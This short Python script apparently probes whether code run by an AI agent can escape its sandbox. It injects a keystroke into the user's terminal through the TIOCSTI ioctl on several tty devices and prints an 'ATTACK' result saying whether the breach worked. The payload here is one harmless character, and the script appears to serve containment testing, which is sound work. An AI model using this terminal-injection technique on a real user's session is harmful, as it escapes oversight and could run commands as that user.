"""Type into the terminal of the user who runs the agent."""

import fcntl
import json
import os

done = []
for path in ("/dev/tty", "/dev/console", "/proc/self/fd/0", "/dev/pts/0"):
    try:
        file = os.open(path, os.O_RDWR)
        fcntl.ioctl(file, 0x5412, b"x")
        done.append(path)
    except OSError:
        pass
print("ATTACK", json.dumps({"attack": "terminal", "breach": bool(done), "detail": done}))
